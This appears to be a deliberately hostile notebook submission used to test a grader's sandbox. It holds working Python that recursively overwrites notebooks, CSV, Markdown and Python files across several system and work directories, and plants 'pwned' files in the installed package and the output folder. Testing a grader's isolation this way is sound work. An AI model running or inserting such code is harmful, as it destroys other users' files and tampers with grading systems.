# Try to damage others: overwrite every other notebook it can find, write into the output
# folder and the installed package, and replace the grader's code.
# %%
import os

import ptutils

damage = []
targets = []
for top in ("/tmp", "/work", "/root", "/home", "/in", os.path.dirname(os.path.dirname(ptutils.__file__))):
    for root, dirs, files in os.walk(top):
        if "site-packages" in root:
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".csv", ".md", ".py")):
                targets.append(os.path.join(root, name))
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("{ overwritten by a hostile submission")
        damage.append(path)
    except OSError:
        pass
for path in (os.path.join(os.path.dirname(ptutils.__file__), "classroom", "pwned.txt"), "/out/pwned.txt"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
        damage.append(path)
    except OSError:
        pass
print("damaged:", damage)


def add(a, b):
    raise NotImplementedError


def scale(x, k):
    raise NotImplementedError
